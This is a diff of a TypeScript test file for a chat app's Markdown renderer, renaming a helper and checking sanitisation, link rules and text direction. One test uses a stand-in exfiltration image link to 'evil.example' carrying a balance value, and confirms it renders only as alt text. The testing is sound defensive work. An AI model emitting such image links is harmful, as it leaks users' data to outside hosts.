@@ -4,7 +4,7 @@ import { Markdown } from '#features/chat/messages/markdown.tsx'
 import { plainMarkdown } from '#features/chat/messages/plain-markdown.ts'
 import { attacks } from '#test-support/examples/markdown-attacks.ts'
 
-const shown = (source: string) => render(<Markdown source={source} />).container
+const renderMarkdown = (source: string) => render(<Markdown source={source} />).container
 const allowed = new Set(['DIV', 'P', 'STRONG', 'EM', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'BR', 'A', 'SPAN'])
 const attributes = new Set(['class', 'dir', 'start', 'href', 'target', 'rel'])
 
@@ -22,14 +22,14 @@ describe('Markdown of users and models', () => {
     ['---\n\nafter', 'P', 'after'],
     ['مرحبا **بك**', 'P STRONG', 'مرحبا بك'],
   ])('renders %j', (source, elements, words) => {
-    const container = shown(source)
+    const container = renderMarkdown(source)
     const tags = [...container.querySelectorAll('div > *, div > * *')].map((one) => one.tagName)
     expect(tags.filter((tag) => tag !== 'DIV').join(' ')).toBe(elements)
     expect(container.textContent).toBe(words)
   })
 
   test('links only to https, and shows the host beside the link', () => {
-    const link = shown('see [the **docs**](https://example.com/a?b=c)').querySelector('a')
+    const link = renderMarkdown('see [the **docs**](https://example.com/a?b=c)').querySelector('a')
     expect(link?.getAttribute('href')).toBe('https://example.com/a?b=c')
     expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
     expect(link?.nextElementSibling?.textContent).toBe('(example.com)')
@@ -52,7 +52,7 @@ describe('Markdown of users and models', () => {
     ['/app/settings%0a', false],
     ['app/settings', false],
   ])('decides whether %s is a link within the app: %s', (path, isLink) => {
-    const container = shown(`see [this](${path})`)
+    const container = renderMarkdown(`see [this](${path})`)
     const link = container.querySelector('a')
     expect([link?.getAttribute('href'), link?.getAttribute('target')]).toEqual([
       isLink ? path : undefined,
@@ -62,12 +62,12 @@ describe('Markdown of users and models', () => {
   })
 
   test('renders an image as its alt text', () => {
-    const container = shown('look ![a chart](https://evil.example/leak.png?balance=5)')
+    const container = renderMarkdown('look ![a chart](https://evil.example/leak.png?balance=5)')
     expect([container.textContent, container.querySelector('img, a')]).toEqual(['look a chart', null])
   })
 
   test('is truncated at 8,000 characters, and read aloud without markup', () => {
-    expect(shown('x'.repeat(9000)).textContent).toHaveLength(8001)
+    expect(renderMarkdown('x'.repeat(9000)).textContent).toHaveLength(8001)
     expect(plainMarkdown('# Hi\n- **a** `b`\n- [c](https://example.com)')).toBe('Hi\na b\nc (example.com)')
   })
 
@@ -76,7 +76,7 @@ describe('Markdown of users and models', () => {
     (mark) => {
       vi.spyOn(console, 'error').mockReturnValue()
       const started = performance.now()
-      expect(shown(`${mark.repeat(7999 / mark.length)}x`).textContent?.length).toBeGreaterThan(0)
+      expect(renderMarkdown(`${mark.repeat(7999 / mark.length)}x`).textContent?.length).toBeGreaterThan(0)
       expect(performance.now() - started).toBeLessThan(5000)
     },
   )
@@ -86,7 +86,7 @@ describe('attacks', () => {
   test('include at least 60 texts', () => expect(new Set(attacks).size).toBeGreaterThanOrEqual(60))
 
   test.each(attacks)('create no element, attribute or URL outside our list: %j', (source) => {
-    const container = shown(source)
+    const container = renderMarkdown(source)
     for (const element of container.querySelectorAll('*')) {
       expect(allowed.has(element.tagName), element.outerHTML).toBe(true)
       for (const { name } of element.attributes) expect(attributes.has(name), element.outerHTML).toBe(true)
@@ -100,9 +100,10 @@ describe('attacks', () => {
 })
 
 describe('the text direction', () => {
-  const direction = (source: string, selector: string) => shown(source).querySelector(selector)?.getAttribute('dir')
+  const direction = (source: string, selector: string) =>
+    renderMarkdown(source).querySelector(selector)?.getAttribute('dir')
 
-  test('is that of the words, not of a symbol or an amount at the start', () => {
+  test('follows the words, not a symbol or an amount at the start', () => {
     const holdings =
       '- \u20682\u2069 \u2068ETH\u2069 على \u2068Ethereum\u2069\n- \u20685\u2069 \u2068SOL\u2069 على \u2068Solana\u2069'
     expect(direction(holdings, 'ul')).toBe('rtl')
